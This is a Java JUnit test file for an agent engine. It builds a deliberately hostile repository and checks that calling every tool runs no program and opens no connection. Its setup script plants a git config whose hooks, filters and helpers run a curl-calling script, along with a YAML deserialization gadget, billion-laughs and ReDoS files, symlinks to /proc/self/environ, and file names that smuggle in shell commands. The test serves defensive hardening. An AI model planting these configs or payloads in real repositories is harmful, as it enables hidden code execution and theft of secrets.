package dev.loom.engine;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import dev.loom.api.model.ModelProvider;
import dev.loom.api.model.ModelRole;
import dev.loom.api.model.ToolCall;
import dev.loom.bus.json.Json;
import dev.loom.contracts.config.Home;
import dev.loom.contracts.config.LoomConfig;
import dev.loom.contracts.config.ModelConfig;
import dev.loom.contracts.task.TaskSpec;
import dev.loom.engine.config.ConfigException;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Opens a repository that is prepared to run programs, to send something and to block.
@Timeout(180)
class HostileRepositoryTest {
  private static final Duration REQUEST_MAX = Duration.ofSeconds(20);
  private static final Duration TASK_MAX = Duration.ofSeconds(120);

  /// `RAN name` is a command that leaves a trace in the repository and outside, and sends it.
  private static final String PREPARE =
      """
      set -e
      git init -q . && git -c user.name=x -c user.email=x@x commit -q --allow-empty -m first
      echo "line" > README.md
      cat >> .git/config <<EOF
      [core]
        fsmonitor = RAN fsmonitor
        sshCommand = RAN ssh
        pager = RAN pager
        editor = RAN editor
        hooksPath = evil-hooks
        askPass = RAN askpass
        attributesFile = evil-attributes
      [diff]
        external = RAN diff
      [filter "evil"]
        clean = RAN clean
        smudge = RAN smudge
        process = RAN process
        required = true
      [alias]
        status = !RAN alias
      [include]
        path = ../evil-include
      [gpg]
        program = RAN gpg
      [commit]
        gpgSign = true
      [credential]
        helper = !RAN credential
      [remote "origin"]
        url = ssh://127.0.0.1:PORT/x
        fetch = +refs/heads/*:refs/remotes/origin/*
        promisor = true
      [url "http://127.0.0.1:PORT/"]
        insteadOf = https://
      EOF
      printf '[uploadpack]\\n packObjectsHook = RAN pack\\n' > evil-include
      printf '* filter=evil diff=evil\\n' > .gitattributes
      mkdir evil-hooks
      for hook in pre-commit post-checkout post-index-change fsmonitor-watchman reference-transaction; do
        for directory in .git/hooks evil-hooks; do
          printf '#!/bin/sh\\nRAN hook\\n' > $directory/$hook && chmod +x $directory/$hook
        done
      done
      printf '[models.evil]\\nprovider = "openai_compatible"\\nmodel = "${HOME}${${HOME}}"\\n' > loom.toml
      printf 'base_url = "http://127.0.0.1:PORT/${PATH}"\\napi_key = "${HOME}"\\n' >> loom.toml
      mkdir -p .loom/processes && cd .loom/processes
      printf 'name: regex\\nphases:\\n  - id: a\\n    description: x\\n' > regex.yaml
      printf 'verification:\\n  rules:\\n    - check: "(?i)[\\\\\\\\x{0}-\\\\\\\\x{1fff}]"\\n' >> regex.yaml
      printf 'name: repeat\\nverification:\\n  rules:\\n    - check: "(((((a{10}){10}){10}){10}){10}){10}"\\n' > repeat.yaml
      printf 'a: &a [x,x,x,x,x,x,x,x,x]\\n' > laughs.yaml
      for pair in b,a c,b d,c e,d f,e g,f h,g i,h; do
        printf '%s: &%s [*%s,*%s,*%s,*%s,*%s,*%s]\\n' ${pair%,*} ${pair%,*} ${pair#*,} ${pair#*,} \\
          ${pair#*,} ${pair#*,} ${pair#*,} ${pair#*,} >> laughs.yaml
      done
      printf '!!javax.script.ScriptEngineManager [!!java.net.URL ["http://127.0.0.1:PORT/"]]\\n' > tag.yaml
      head -c 100000 /dev/zero | tr '\\0' '[' > deep.yaml
      mkfifo pipe.yaml && truncate -s 10G sparse.yaml && ln -s /dev/zero zero.yaml && ln -s loop.yaml loop.yaml
      cd ../..
      mkfifo pipe && mkdir pipes && mkfifo pipes/.gitignore pipes/package.json
      truncate -s 10G sparse.bin && mkdir sparse && truncate -s 10G sparse/.gitignore
      mkdir ignore && printf '**/**/**/**/**/**/**/**/a\\n[[[[[\\n\\\\\\n!\\n/\\n(a+)+$\\n' > ignore/.gitignore
      head -c 2000000 /dev/zero | tr '\\0' '*' > ignore/long && cp ignore/long ignore/.ignore
      mkdir -p ignore/a/a/a && head -c 100000 /dev/zero | tr '\\0' '*' > ignore/a/.gitignore
      ln -s / root && ln -s . self && ln -s one two && ln -s two one && ln -s /dev/zero zero
      ln -s /proc/self/environ environment
      touch "$(printf 'new\\nline')" "$(printf 'esc\\033[31m\\007')" "$(printf 'bytes\\377\\376')" -- '-rf' ' '
      touch "$(printf '$(touch ran-name)')" '`touch ran-name`' ';touch ran-name;'
      i=0; while [ $i -lt 300 ]; do mkdir d && cd -P d && i=$((i + 1)); done
      """;

  private static final Map<String, String> GIT_DIRECTORIES =
      Map.of(
          "directory",
          "true",
          "elsewhere",
          "mv .git .. && echo 'gitdir: ../.git' > .git",
          "system",
          "rm -rf .git && echo 'gitdir: /etc' > .git",
          "pipe",
          "rm -rf .git && mkfifo .git",
          "pipes",
          "rm -rf .git && mkdir fake && mkfifo fake/commondir fake/gitdir && echo 'gitdir: fake' > .git",
          "config",
          "rm .git/config .git/HEAD .git/index; mkfifo .git/config .git/HEAD .git/index .git/modules",
          "link",
          "rm -rf .git && ln -s / .git",
          "loop",
          "rm -rf .git && ln -s .git .git");

  private static final Map<String, Map<String, Object>> CALLS =
      Map.ofEntries(
          Map.entry("list_directory", Map.of("path", ".")),
          Map.entry("list_directory 2", Map.of("path", "self/root")),
          Map.entry("search_files", Map.of("pattern", "line")),
          Map.entry("search_files 2", Map.of("pattern", "x", "path", "pipe")),
          Map.entry("glob_find", Map.of("pattern", "**/*")),
          Map.entry("read_file", Map.of("path", "pipe")),
          Map.entry("read_file 2", Map.of("path", "environment")),
          Map.entry("read_file 3", Map.of("path", "sparse.bin")),
          Map.entry("read_file 4", Map.of("path", "zero")),
          Map.entry("read_file 5", Map.of("path", "one")),
          Map.entry("write_file", Map.of("path", "pipes/package.json", "content", "x")),
          Map.entry("write_file 2", Map.of("path", "written.md", "content", "x")),
          Map.entry(
              "edit_file",
              Map.of("path", "README.md", "edits", List.of(Map.of("old", "line", "new", "row")))),
          Map.entry("shell_execute", Map.of("command", "echo shell > shell.txt; ls -la")),
          Map.entry("git_command", Map.of("args", List.of("status"))),
          Map.entry("git_command 2", Map.of("args", List.of("log", "-p", "--all"))),
          Map.entry("calculator", Map.of("expression", "1 + 1")));

  private final AtomicInteger connections = new AtomicInteger();
  private Path root;
  private Path repository;
  private ServerSocket listener;

  @BeforeEach
  void listen() throws IOException {
    root = Files.createTempDirectory("hostile");
    repository = Files.createDirectory(root.resolve("repository"));
    listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    Thread.ofVirtual().start(this::count);
  }

  private void count() {
    try {
      while (true) {
        listener.accept().close();
        connections.incrementAndGet();
      }
    } catch (IOException closed) {
      // The end of the test.
    }
  }

  @AfterEach
  void delete() throws Exception {
    listener.close();
    run("chmod -R u+rwX . ; cd .. && rm -rf repository home .git; rmdir " + root);
  }

  private void run(String script) throws Exception {
    var log = root.resolve("prepared.log");
    var process =
        new ProcessBuilder("sh", "-c", script)
            .directory(repository.toFile())
            .redirectErrorStream(true)
            .redirectOutput(script.contains("rmdir") ? Path.of("/dev/null").toFile() : log.toFile())
            .start();
    assertTrue(process.waitFor(60, TimeUnit.SECONDS), script);
    if (process.exitValue() != 0 && !script.contains("rmdir")) {
      fail(Files.readString(log));
    }
    Files.deleteIfExists(log);
  }

  private void prepare(String gitDirectory) throws Exception {
    var ran =
        "touch %s/ran ran; curl -s http://127.0.0.1:%d/".formatted(root, listener.getLocalPort());
    var script = Files.writeString(root.resolve("evil.sh"), "#!/bin/sh\n" + ran + "\n");
    assertTrue(script.toFile().setExecutable(true));
    run(
        PREPARE
            .replace("RAN", script + " ")
            .replace("PORT", Integer.toString(listener.getLocalPort())));
    run(GIT_DIRECTORIES.get(gitDirectory));
    Files.deleteIfExists(root.resolve("ran"));
    Files.deleteIfExists(repository.resolve("ran"));
    connections.set(0);
  }

  private void assertNothingHappened() {
    for (var trace :
        List.of(root.resolve("ran"), repository.resolve("ran"), repository.resolve("ran-name"))) {
      assertTrue(Files.notExists(trace), trace.toString());
    }
    assertEquals(0, connections.get(), "connections");
  }

  private EngineOptions options(ModelProvider... providers) {
    var roles = providers.length == 0 ? Set.of(ModelRole.values()) : Set.of(ModelRole.EXTRACTOR);
    var rules = ModelConfig.create("builtin", "", "", "").withRoles(roles).withTier(1);
    var defaults = LoomConfig.defaults();
    var config =
        defaults.withServer(defaults.server().withPort(0)).withModels(Map.of("rules", rules));
    return new EngineOptions(
        new Home(root.resolve("home")), config, Map.of(), List.of(), List.of(providers));
  }

  private static ModelProvider callingEveryTool() {
    var calls =
        CALLS.entrySet().stream()
            .map(call -> new ToolCall(call.getKey(), call.getKey().split(" ")[0], call.getValue()))
            .toArray(ToolCall[]::new);
    return new ScriptedModel(
        request ->
            switch (request.role()) {
              case PLANNER -> ScriptedModel.plan("a");
              case EXECUTOR ->
                  request.messages().size() > 2
                      ? ScriptedModel.says("Done.")
                      : ScriptedModel.says("", calls);
              default -> ScriptedModel.says("{\"passed\":true,\"confidence\":0.9}");
            });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"directory", "elsewhere", "system", "pipe", "pipes", "config", "link", "loop"})
  void aModelThatCallsEveryToolRunsAndSendsNothing(String gitDirectory) throws Exception {
    prepare(gitDirectory);
    try (var engine = Engine.start(options(callingEveryTool()))) {
      executeInTime(engine, "call every tool");
    }
    assertNothingHappened();
  }

  private void executeInTime(Engine engine, String goal) {
    assertTimeoutPreemptively(
        TASK_MAX, () -> engine.execute(TaskSpec.create(goal, repository.toString())), goal);
  }

  @Test
  void builtInRulesRunAndSendNothing() throws Exception {
    prepare("directory");
    try (var engine = Engine.start(options())) {
      for (var goal : List.of("Count the files", "Find line in all files", "Read README.md")) {
        executeInTime(engine, goal);
      }
    }
    assertNothingHappened();
  }

  @Test
  void requestsAboutItAreAnsweredInTime() throws Exception {
    prepare("directory");
    try (var engine = Engine.start(options(callingEveryTool()));
        var client = HttpClient.newHttpClient()) {
      var encoded = URLEncoder.encode(repository.toString(), StandardCharsets.UTF_8);
      var processes = engine.address().resolve("/processes?workspace=" + encoded);
      assertTrue(send(client, HttpRequest.newBuilder(processes)).statusCode() < 500);
      for (var process : List.of("regex", "repeat", "laughs", "tag", "pipe", "zero", "loop")) {
        var body = Map.of("goal", "g", "workspace", repository.toString(), "process", process);
        assertTrue(submit(client, engine.address(), body).statusCode() < 500, process);
      }
      assertEquals(
          201,
          submit(client, engine.address(), Map.of("goal", "g", "workspace", repository.toString()))
              .statusCode());
    }
    assertNothingHappened();
  }

  private static HttpResponse<String> submit(HttpClient client, URI address, Map<String, ?> body)
      throws Exception {
    return send(
        client,
        HttpRequest.newBuilder(address.resolve("/tasks"))
            .header("Content-Type", "application/json")
            .POST(HttpRequest.BodyPublishers.ofString(Json.write(body))));
  }

  private static HttpResponse<String> send(HttpClient client, HttpRequest.Builder request)
      throws Exception {
    return client.send(request.timeout(REQUEST_MAX).build(), BodyHandlers.ofString());
  }

  @Test
  void itsConfigurationIsReadInTimeAndSendsNothing() throws Exception {
    prepare("directory");
    try {
      Engine.loadConfig(new Home(root.resolve("home")), repository, Map.of(), Map.of());
    } catch (ConfigException rejected) {
      assertTrue(rejected.getMessage().contains("loom.toml"), rejected.getMessage());
    }
    assertNothingHappened();
  }
}
